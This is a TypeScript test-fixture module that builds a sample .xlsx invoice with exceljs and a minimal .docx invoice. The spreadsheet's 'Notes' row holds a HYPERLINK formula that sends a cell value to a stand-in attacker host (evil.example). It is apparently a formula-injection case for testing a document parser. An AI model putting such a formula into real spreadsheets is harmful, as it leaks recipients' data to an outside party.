import ExcelJS from 'exceljs';
import { writeZip, type ZipInput } from './zip-writer';

/** Real .xlsx (exceljs) and .docx (hand-built OOXML) invoices for tests. */

export async function xlsxInvoice(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Invoice');
  ws.columns = [{ width: 30 }, { width: 8 }, { width: 10 }, { width: 12 }];
  ws.addRow(['Acme Tools GmbH']);
  ws.mergeCells('A1:D1');
  ws.addRow(['Invoice Number:', 'XL-2024-001']);
  ws.addRow(['Invoice Date:', new Date(Date.UTC(2024, 2, 15))]);
  ws.addRow([]);
  ws.addRow(['Description', 'Qty', 'Price', 'Amount']);
  const items: Array<[string, number, number]> = [['Hammer', 2, 12.5], ['Screwdriver set', 1, 30], ['Nails box', 4, 2.25]];
  items.forEach(([d, q, p], i) => {
    const r = 6 + i;
    const row = ws.addRow([d, q, p, { formula: `B${r}*C${r}`, result: q * p }]);
    row.getCell(3).numFmt = '#,##0.00';
    row.getCell(4).numFmt = '#,##0.00';
  });
  ws.addRow([]);
  const sub = ws.addRow(['Subtotal', null, null, { formula: 'SUM(D6:D8)', result: 64 }]);
  const tax = ws.addRow(['VAT 19%', null, null, 12.16]);
  const total = ws.addRow(['Total', null, null, { formula: 'D10+D11', result: 76.16 }]);
  for (const r of [sub, tax, total]) r.getCell(4).numFmt = '#,##0.00';
  ws.addRow(['Notes', '=HYPERLINK("http://evil.example/?x="&A2,"click")']);
  const terms = wb.addWorksheet('Terms');
  terms.addRow(['Payment terms: 30 days net']);
  terms.addRow(['Thank you for your business']);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${esc(text)}</w:t></w:r></w:p>`;
const table = (rows: string[][]) =>
  `<w:tbl>${rows.map((r) => `<w:tr>${r.map((c) => `<w:tc>${para(c)}</w:tc>`).join('')}</w:tr>`).join('')}</w:tbl>`;

/** A minimal valid .docx: content types, package relationships, and the main document part. */
export function docxFile(body: string): Buffer {
  const files: ZipInput[] = [
    {
      name: '[Content_Types].xml',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
    },
    { name: 'word/document.xml', data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}"><w:body>${body}</w:body></w:document>` },
  ];
  return writeZip(files);
}

export function docxInvoice(): Buffer {
  return docxFile(
    [
      para('Globex Consulting Ltd'),
      para('12 Harbour Road, Bristol BS1 4DJ'),
      para('Invoice Number: WD-7781'),
      para('Invoice Date: 2024-03-15'),
      para('Terms & conditions apply <see below>'),
      table([
        ['Description', 'Qty', 'Unit Price', 'Amount'],
        ['Strategy workshop', '1', '1,200.00', '1,200.00'],
        ['Follow-up calls', '3', '150.00', '450.00'],
      ]),
      para('Subtotal: 1,650.00'),
      para('VAT 20%: 330.00'),
      para('Total: GBP 1,980.00'),
    ].join(''),
  );
}
